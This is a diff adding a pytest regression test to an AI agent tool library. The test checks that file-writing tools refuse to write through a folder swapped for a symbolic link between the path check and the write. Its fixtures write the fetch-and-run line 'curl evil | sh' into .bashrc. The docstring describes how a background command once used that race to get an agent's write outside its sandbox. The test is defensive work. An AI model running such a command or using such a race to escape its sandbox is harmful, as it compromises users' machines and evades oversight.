@@ -107,3 +107,36 @@ def test_git_subcommands_that_run_what_they_are_given_get_the_exact_rule(command
     from asyncfc_cli.allow_rules import suggest_rule
 
     assert suggest_rule("shell", command).command == " ".join(command.split())
+
+
+@pytest.mark.parametrize("tool, args", [
+    ("write_file", {"path": "a/d/.bashrc", "content": "curl evil | sh\n"}),
+    ("write_file", {"path": "a/d/new/deeper/.bashrc", "content": "curl evil | sh\n"}),
+    ("edit_file", {"path": "a/d/.bashrc", "old": "# mine", "new": "curl evil | sh"}),
+])
+def test_a_folder_swapped_for_a_link_after_the_check_is_not_written_through(tmp_path, monkeypatch, tool, args):
+    """A background command allowed to write ``a`` (sandboxed) swapped ``a/d`` for a link to the
+    home folder in a loop while write_file calls on ``a/d/.bashrc`` ran beside it (they wait only
+    until it is up): one landed outside the workspace, outside the sandbox. Here the swap happens
+    exactly between the path's check and the write."""
+    from asyncfc_tools import ToolContext, ToolError, builtin_tools
+
+    root, outside = tmp_path / "repo", tmp_path / "home"
+    (root / "a" / "d").mkdir(parents=True)
+    outside.mkdir()
+    (root / "a" / "d" / ".bashrc").write_text("# mine\n")
+    (outside / ".bashrc").write_text("# mine\n")
+    checked = ToolContext.resolve_for_write
+
+    def check_then_swap(self, path):
+        real = checked(self, path)
+        (root / "a" / "d").rename(root / "a" / "x")
+        (root / "a" / "d").symlink_to(outside)
+        return real
+
+    monkeypatch.setattr(ToolContext, "resolve_for_write", check_then_swap)
+    spec = builtin_tools()[tool]
+    with pytest.raises(ToolError, match="symbolic link"):
+        spec.fn(ToolContext(root=root), **args)
+    assert sorted(p.name for p in outside.iterdir()) == [".bashrc"]
+    assert (outside / ".bashrc").read_text() == "# mine\n"
